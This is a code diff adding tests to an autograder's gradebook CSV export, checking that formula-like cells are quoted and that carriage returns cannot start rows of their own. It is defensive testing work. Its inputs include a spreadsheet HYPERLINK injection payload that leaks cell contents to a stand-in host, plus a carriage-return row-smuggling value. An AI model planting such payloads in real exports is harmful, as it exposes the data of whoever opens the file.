@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import csv
+import io
+
 from autograder.render.gradebook_csv import grades_csv, nbgrader_csv
 
 from class_records import batch_of, record, wrong_mirror
@@ -19,3 +22,22 @@ def test_nbgrader_csv_has_the_export_columns() -> None:
         'assignment,duedate,timestamp,student_id,last_name,first_name,email,raw_score,'
         'late_submission_penalty,score,max_score\n'
         'hexapawn,,,2001,Doe,Jane van,,10.0,0.0,10.0,10.0\n')
+
+
+def test_cells_that_start_like_formulas_are_quoted_in_both_gradebooks() -> None:
+    ids = ('=HYPERLINK("http://x.example/?"&A1,"ok")', '+1+41', '-2+3', '@SUM(A1)',
+           '\tTAB', '\rCR', 'ada-=1')
+    batch = batch_of(*(record(i, notes=('=1+1',)) for i in ids), names={'+1+41': '=A1 B'})
+    rows = list(csv.reader(io.StringIO(grades_csv(batch), newline='')))[1:]
+    assert [row[0] for row in rows] == ["'" + i for i in ids[:-2]] + ["'\nCR", 'ada-=1']
+    assert rows[1] == ["'+1+41", "'=A1 B", '3', '3', '4', '10', '10', '', 'process-group',
+                       "'=1+1"]
+    nbgrader = list(csv.reader(io.StringIO(nbgrader_csv(batch), newline='')))[1:]
+    assert nbgrader[1] == ['hexapawn', '', '', "'+1+41", 'B', "'=A1", '', '10.0', '0.0',
+                           '10.0', '10.0']
+
+
+def test_a_carriage_return_cannot_start_a_row_of_its_own() -> None:
+    batch = batch_of(record('eve\r=1+1,10,10'), record('ada\r\nbob'))
+    rows = list(csv.reader(io.StringIO(grades_csv(batch), newline='')))
+    assert [row[0] for row in rows] == ['student', 'eve\n=1+1,10,10', 'ada\nbob']
